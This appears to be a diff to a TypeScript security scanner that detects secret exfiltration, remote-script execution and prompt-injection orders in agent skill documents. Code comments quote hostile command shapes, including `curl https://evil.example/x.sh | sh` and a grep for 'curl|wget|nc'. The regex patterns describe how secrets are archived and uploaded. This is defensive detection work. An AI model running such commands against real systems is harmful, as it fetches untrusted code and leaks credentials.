@@ -2,7 +2,7 @@ import { GUARD } from '../core/limits.ts'
 import { classifyLines, isScriptPath, lineShown } from './context.ts'
 import type { LineInfo } from './context.ts'
 import { aboutAnAttackUnordered, badHalfLines, elidedListing, exampleQuotes, listedApart, pureList, inert, onlyRoleTags, opensWithOrder, quotedSpans, redirectsNames, reservedOnly, sendsNowhere } from './examples.ts'
-import { DOC_RULES, imperativeAt, NEGATED_MOVE, SECRET_COMMAND, SECRET_FILE, SECRET_VALUE } from './doc-rules.ts'
+import { DOC_RULES, intoItsOwnStore, imperativeAt, NEGATED_MOVE, SECRET_COMMAND, SECRET_FILE, SECRET_VALUE } from './doc-rules.ts'
 import type { DocRule } from './doc-rules.ts'
 import { normalizeDocument } from './normalize.ts'
 import type { NormalDoc, Unit } from './normalize.ts'
@@ -152,12 +152,53 @@ function runLineRules(body: string, lines: readonly LineInfo[], placeOf: (lineId
           text = lm[0]
         } else ok = false
       }
-      if (ok && (!rule.requires || rule.requires.test(info.text))) emit(rule, placeOf(lineIdx), index, text)
+      if (ok && (!rule.requires || rule.requires.test(info.context === 'code' ? maskSearchArgs(info.text) : info.text))) emit(rule, placeOf(lineIdx), index, text)
       // One finding per rule per line: continue on the next line.
       if (lineIdx + 1 >= starts.length) break
       re.lastIndex = starts[lineIdx + 1]!
     }
   }
+}
+
+/** Session 8: a search command at a command's start (after a pipe, `;`, `&&`, `(` or `$(`). */
+const SEARCH_CMD = /(?:^|[|;&(\n]\s{0,3}|\$\(\s{0,2})(?:sudo\s{1,3}|)(?:grep|egrep|fgrep|zgrep|rg|ag|ack|git\s{1,3}grep|findstr|Select-String)\b/g
+let lastMaskIn = ''
+let lastMaskOut = ''
+/**
+ * Session 8: the text with the quoted arguments of search commands blanked (same length): the words a
+ * `grep -E 'curl|wget|nc '` looks for are data, not the command's sink. A double-quoted argument that
+ * substitutes (`$(`, a backtick, `${`) runs something and is kept. Used where a rule asks for its second
+ * half (`requires`), so a secret piped into a search is not "sent" by the words searched for.
+ */
+export function maskSearchArgs(t: string): string {
+  if (t === lastMaskIn) return lastMaskOut
+  let out: string[] | undefined
+  if (/grep|\brg\b|\bag\b|\back\b|findstr|Select-String/.test(t)) {
+    let i = 0
+    for (const m of t.matchAll(SEARCH_CMD)) {
+      if (m.index < i) continue
+      i = m.index + m[0].length
+      while (i < t.length) {
+        const c = t[i]!
+        if (c === '|' || c === ';' || c === '&' || c === '\n' || c === ')') break
+        if (c === "'" || c === '"') {
+          const close = t.indexOf(c, i + 1)
+          if (close < 0) break
+          const inner = t.slice(i + 1, close)
+          if (c === "'" || !/\$\(|`|\$\{/.test(inner)) {
+            out ??= [...t]
+            for (let k = i + 1; k < close; k++) out[k] = ' '
+          }
+          i = close + 1
+          continue
+        }
+        i++
+      }
+    }
+  }
+  lastMaskIn = t
+  lastMaskOut = out ? out.join('') : t
+  return lastMaskOut
 }
 
 /**
@@ -182,6 +223,8 @@ const ESCALATE_IGNORES = new Set(['invisible-unicode', 'credential-exposure'])
 const SKIPS_CONFIRMATION = new Set(['pi-skip-user-confirmation', 'pi-zh-skip-confirmation', 'pi-disable-safety'])
 /** Findings too indirect to turn an instruction critical by being in the same file. */
 const NOT_PARTNERS = new Set(['flow-secret-to-network-doc'])
+/** Session 8: orders that escalate only beside a risky finding, never beside another order alone. */
+const WEAK_ORDERS = new Set(['pi-hide-step'])
 const DOC_BY_ID = new Map(DOC_RULES.map((r) => [r.id, r] as const))
 /** The document rules that read sentences of a plain-text fence (normalize.ts `fenced`): a secret sent to the agent's reply. */
 const FENCED_RULES = new Set(['flow-secret-to-reply', 'flow-secret-to-prose-send'])
@@ -377,6 +420,7 @@ export function scanText(text: string, file: string): Finding[] {
   listShapesInText(findings, doc)
   keepStandInsBesideDisks(findings, doc)
   keepListedDownloadRuns(findings, doc)
+  lowerStagedIntoStore(findings, doc)
 
   // Hiding, forging and disabling are the tell: with anything else risky in the same file, they are critical.
   const escalating = findings.filter((f) => DOC_BY_ID.get(f.ruleId)?.escalates && f.severity !== 'critical' && !shownExamples.has(f))
@@ -385,9 +429,14 @@ export function scanText(text: string, file: string): Finding[] {
     // confirmation, even a medium one (a dropped schema, a force-push) is the partner.
     const skipsConfirm = escalating.some((f) => SKIPS_CONFIRMATION.has(f.ruleId))
     const other = findings.find((f) => !DOC_BY_ID.get(f.ruleId)?.escalates && !ESCALATE_IGNORES.has(f.category) && !NOT_PARTNERS.has(f.ruleId) && (rank(f.severity) >= rank('high') || (skipsConfirm && f.category === 'destructive' && rank(f.severity) >= rank('medium'))))
-    const partner = other ?? (new Set(escalating.map((f) => f.ruleId)).size > 1 ? escalating[1] : undefined)
+    // Session 8: an order about the skill's own steps (pi-hide-step) needs a risky partner; it does not
+    // make another order critical, nor is made critical by one.
+    const orders = escalating.filter((f) => !WEAK_ORDERS.has(f.ruleId))
+    const partner = other ?? (new Set(orders.map((f) => f.ruleId)).size > 1 ? orders[1] : undefined)
     if (partner) {
-      for (const f of escalating) {
+      // A weak order needs a partner that is a capability, not another order (a line rule's "hide from the user").
+      const risky = other && other.category !== 'prompt-injection' ? other : findings.find((f) => f.category !== 'prompt-injection' && !DOC_BY_ID.get(f.ruleId)?.escalates && !ESCALATE_IGNORES.has(f.category) && !NOT_PARTNERS.has(f.ruleId) && rank(f.severity) >= rank('high'))
+      for (const f of risky ? escalating : orders) {
         f.message += ` (critical: the same file also has ${partner.ruleId} on line ${partner.line})`
         f.severity = 'critical'
       }
@@ -447,7 +496,7 @@ function runDocRules(doc: NormalDoc, gate: Gate, mayFor: (re: RegExp) => (u: Uni
     }
     const requires = rule.requires
     const requiresMay = requires && mayFor(requires)
-    const meets = (u: Unit) => !requires || (requiresMay!(u) && requires.test(u.text))
+    const meets = (u: Unit) => !requires || (requiresMay!(u) && requires.test(u.context === 'code' ? maskSearchArgs(u.text) : u.text))
     // Whether some block meets `requires`, asked once per rule: per hit it made the scan quadratic
     // (8,000 blocks took seconds). The hit's own unit never meets it, so "another block" is any block.
     let blockMeets: boolean | undefined
@@ -546,8 +595,13 @@ function lowerQuotedExamples(findings: Finding[], doc: NormalDoc, file: string):
  * sample command or a lesson's payload shows the shape and sends nothing. Not when the document points
  * names somewhere of its own (a hosts-file entry, curl --resolve or --connect-to, a proxy).
  */
+/**
+ * Session 8: a download run from a reserved name fetches nothing either (`curl https://evil.example/x.sh | sh`
+ * in a lesson's bad example): the same lowering as a send, for the rules that run what a URL serves.
+ */
+const FETCH_RUNS = new Set(['sc-curl-pipe-shell', 'sc-curl-pipe-shell-insecure', 'sc-iex-download', 'sc-iex-download-insecure', 'sc-install-script-hook', 'exec-fetch-eval', 'exec-fetch-eval-script', 'exec-eval-remote', 'exec-download-run-binary'])
 function lowerReservedSends(findings: Finding[], doc: NormalDoc, body: string): void {
-  const candidates = findings.filter((f) => f.category === 'exfiltration' && rank(f.severity) > rank('medium'))
+  const candidates = findings.filter((f) => (f.category === 'exfiltration' || FETCH_RUNS.has(f.ruleId)) && rank(f.severity) > rank('medium'))
   if (!candidates.length || redirectsNames(body)) return
   // A finding on a unit read across lines (a sentence, a joined command) is judged on all of its lines.
   const endOf = new Map<number, number>()
@@ -690,6 +744,27 @@ function keepPlantedKeyBackups(findings: Finding[], doc: NormalDoc): void {
   for (const f of rewrites) {
     f.message += ` (critical: line ${planted + 1} writes or names the backup it is rebuilt from, which may hold a planted key)`
     f.severity = 'critical'
+  }
+}
+
+/**
+ * Session 8: a secret written to a temp file that a later line moves into the secret's own store
+ * (`kubectl config view --flatten > /tmp/kc.merged` … `mv /tmp/kc.merged ~/.kube/config`): the temp
+ * file is the staging of an in-place rewrite, not a copy left outside. Medium (listed), not dropped.
+ */
+function lowerStagedIntoStore(findings: Finding[], doc: NormalDoc): void {
+  const staged = findings.filter((f) => f.ruleId === 'flow-secret-to-outside-file' && f.severity === 'critical')
+  if (!staged.length) return
+  const moves = doc.units.filter((u) => u.kind === 'command' && u.text.includes('mv'))
+  // Each is checked against the moves: bounded like the tainted files (a skill stages one or two).
+  for (const f of staged.slice(0, GUARD.taintedFilesMax)) {
+    const dest = /(?:>{1,2})\s{0,3}["']?(\/tmp\/[\w.-]{1,80}|\/var\/tmp\/[\w.-]{1,80})["']?\s{0,3}$/.exec(doc.folded[f.line - 1] ?? '')?.[1]
+    if (!dest) continue
+    // The command units after it (a synthetic one has its variables filled in: `mv /tmp/x "$KC"` → the store).
+    const back = moves.find((u) => u.line > f.line && u.line <= f.line + GUARD.stagedMoveLines && u.text.includes(dest) && intoItsOwnStore(u.text))
+    if (!back) continue
+    f.message += ` (medium: line ${back.line} moves ${dest} into the secret's own file, an in-place rewrite)`
+    f.severity = 'medium'
   }
 }
 
@@ -913,10 +988,13 @@ function secretIntoPublished(units: readonly Unit[], mayHoldSource: (u: Unit) =>
   return source ? { source, push } : undefined
 }
 
+/** Session 8: a comment line holding only a path (or `file: path`): the label of the content below it. */
+const FILE_LABEL = /^\s{0,4}(?:#|\/\/|;|--)\s{0,3}(?:file\s{0,2}:\s{0,2}|)[~$\w./\\{}-]{1,160}\s{0,3}$/gm
 /** A block that reads a secret, and a send in another block or a prose instruction to send. */
 function secretApart(units: readonly Unit[], mayHoldSource: (u: Unit) => boolean): { source: Unit; send: Unit } | undefined {
   const sends = APART.requires!
-  const source = units.find((u) => u.kind === 'block' && mayHoldSource(u) && SOURCE.test(u.text))
+  // Session 8: a comment line that only names the file a config block shows (`# ~/.npmrc`) labels it; it reads nothing.
+  const source = units.find((u) => u.kind === 'block' && mayHoldSource(u) && SOURCE.test(u.text) && SOURCE.test(u.text.replace(FILE_LABEL, '')))
   if (!source) return undefined
   const send = units.find((u) => u !== source && (u.kind === 'block' || u.kind === 'sentence' || (u.kind === 'command' && u.line > source.endLine)) && sends.test(u.text) && !NEGATED_MOVE.test(u.text) && !(reservedOnly(u.text) && !redirectsNames(u.text)))
   return send ? { source, send } : undefined
@@ -942,11 +1020,17 @@ function taintedFlows(units: readonly Unit[], mayHoldSource: (u: Unit) => boolea
   const earlierFiles = new Map<string, number>()
   /** Files a secret was copied or redirected to in this block (`cp ~/.npmrc dir/`, `cat .env > f`). */
   let copied = new Map<string, number>()
+  /** Session 8: any file a secret went into in an earlier block (`/tmp/bundle.txt`): uploaded later, it carries it. */
+  const earlierUploads = new Map<string, number>()
+  /** Session 8: the line of a secret read in this block, for a group's redirect (`{ cat .env; env; } >> f`). */
+  let groupSource = 0
   let blockEnd = -1
   for (const u of units) {
     if (u.kind === 'block') {
       for (const [name, from] of tainted) if (/^[A-Za-z_]\w{0,40}$/.test(name)) earlier.set(name, from)
       for (const [name, from] of copied) if (projectPath(name)) earlierFiles.set(name, from)
+      for (const [name, from] of copied) if (FILE_NAME.test(name) && earlierUploads.size < GUARD.taintedFilesMax) earlierUploads.set(name, from)
+      groupSource = 0
       copied = new Map()
       tainted = new Map()
       carried = new Map()
@@ -957,14 +1041,24 @@ function taintedFlows(units: readonly Unit[], mayHoldSource: (u: Unit) => boolea
     // Shell joins quoted pieces that touch: `c""url` runs curl, `"ht""tps"` is "https".
     const t = u.text.replace(/(?<=\S)(?:""|'')(?=\S)/g, '')
     if (mayHoldSource(u) && SOURCE.test(t)) {
+      groupSource ||= u.line
+      const am = ARCHIVE_OUT.exec(t)
+      const archive = am ? (am[1] ?? am[2] ?? am[3]) : undefined
+      if (archive) {
+        tainted.set(archive, u.line)
+        copied.set(archive, u.line)
+      }
       const a = ASSIGNED.exec(t)?.[1]
       if (a) tainted.set(a, u.line)
       const l = LOOP_VAR.exec(t)?.[1]
       if (l) tainted.set(l, u.line)
       const w = WRITES_TO.exec(t)?.[1]
       if (w) tainted.set(w, u.line)
-      const r = /(?:>{1,2}|\btee\s{1,3}(?:-a\s{1,3}|))\s{0,2}["']?([^\s"';|&)>]{2,200})/.exec(t)?.[1]
-      if (r) copied.set(r, u.line)
+      // Every redirect of the command (a group `{ …; } >> f` ends with its own), not only the first
+      // (`2>/dev/null` is often first); the null device and descriptor copies hold nothing.
+      for (const m of t.matchAll(/(?:>{1,2}|\btee\s{1,3}(?:-a\s{1,3}|))\s{0,2}["']?([^\s"';|&)>]{2,200})/g)) {
+        if (m[1] !== '/dev/null' && !m[1]!.startsWith('&')) copied.set(m[1]!, u.line)
+      }
       if (/^\s{0,8}(?:sudo\s{1,3})?(?:cp|mv|install|rsync)\s/.test(t)) {
         // The destination is the last argument, once redirections (`2>/dev/null`) and what is chained after are cut.
         const last = t.replace(/\s{0,3}(?:&&|\|\||;|\|)[^]{0,400}$/, '').replace(/\s\d?>{1,2}&?\s{0,2}\S{1,200}/g, '').trim().split(/\s{1,8}/).pop()
@@ -974,6 +1068,20 @@ function taintedFlows(units: readonly Unit[], mayHoldSource: (u: Unit) => boolea
         }
       }
       continue
+    }
+    // Session 8: a brace group or subshell whose output goes to a file, after a secret read inside it.
+    const grouped = groupSource ? GROUP_REDIRECT.exec(t)?.[1] : undefined
+    if (grouped) {
+      tainted.set(grouped, groupSource)
+      copied.set(grouped, groupSource)
+      continue
+    }
+    if (earlierUploads.size && (SENDS.test(t) || NET_CLIENT.test(t))) {
+      const hit = [...earlierUploads].find(([name]) => !tainted.has(name) && uploadsFile(t, name))
+      if (hit) {
+        out.push({ ruleId: 'flow-secret-to-network', unit: u, via: `the file ${hit[0]}, written in an earlier block`, from: hit[1] })
+        continue
+      }
     }
     const valueVar = VALUE_SOURCE.test(t) ? ASSIGNED.exec(t)?.[1] : undefined
     if (valueVar) {
@@ -1021,6 +1129,23 @@ function taintedFlows(units: readonly Unit[], mayHoldSource: (u: Unit) => boolea
     }
   }
   return out
+}
+
+/** Session 8: the archive a `tar -c…f FILE` / `zip [-r] FILE` / `7z a FILE` writes. */
+const ARCHIVE_OUT = /\btar\s{1,3}-{0,2}[a-zA-Z]{0,6}f\s{1,3}["']?([^\s"';|&)]{2,200})|\bzip\s{1,3}(?:-[a-zA-Z0-9]{1,4}\s{1,3}|)(?:-[a-zA-Z0-9]{1,4}\s{1,3}|)["']?([^\s"';|&)-][^\s"';|&)]{1,200})|\b7z\s{1,3}a\s{1,3}["']?([^\s"';|&)]{2,200})/
+/** Session 8: the closing line of a `{ … }` or `( … )` group that redirects it to a file. */
+const GROUP_REDIRECT = /^\s{0,8}[})]\s{0,3}(?:\d?>{1,2}\s{0,2}|\|\s{0,3}tee\s{1,3}(?:-a\s{1,3}|))["']?([^\s"';|&)>]{2,200})/
+/** A name that is a file (has a dot or a slash), not a variable. */
+const FILE_NAME = /^[^$\s-][^\s]{0,200}[./][^\s]{0,200}$/
+/** Session 8: the command uploads `name` (`< f`, `@f`, `--upload-file f`, `-T f`, `-InFile f`, scp/rsync/cp to a bucket). */
+function uploadsFile(t: string, name: string): boolean {
+  for (let i = t.indexOf(name); i >= 0; i = t.indexOf(name, i + 1)) {
+    const after = t.charAt(i + name.length)
+    if (after && !/[\s"';|&)]/.test(after)) continue
+    const before = t.slice(Math.max(0, i - 60), i)
+    if (/(?:@|<\s{0,3}|--upload-file\s{1,3}|\s-T\s{1,3}|-InFile\s{1,3}|=\s{0,2}open\(\s{0,2})["']?$|\b(?:scp|rsync|s3\s{1,3}cp|gsutil\s{1,3}cp|rclone\s{1,3}copy)\s[^|;&]{0,60}$/.test(before)) return true
+  }
+  return false
 }
 
 /** A path inside the project (relative, not /tmp or the home folder). */
@@ -1104,3 +1229,6 @@ export function verdictOf(findings: readonly Finding[], waivers: readonly Waiver
   if (active.some((f) => f.severity === 'high')) return 'caution'
   return 'safe'
 }
+
+/** Session 8's patterns outside the rule table (file taint, labels, search commands), for the static regex check. */
+export const SCAN8_HELPER_PATTERNS: readonly RegExp[] = [ARCHIVE_OUT, GROUP_REDIRECT, FILE_NAME, FILE_LABEL, SEARCH_CMD]
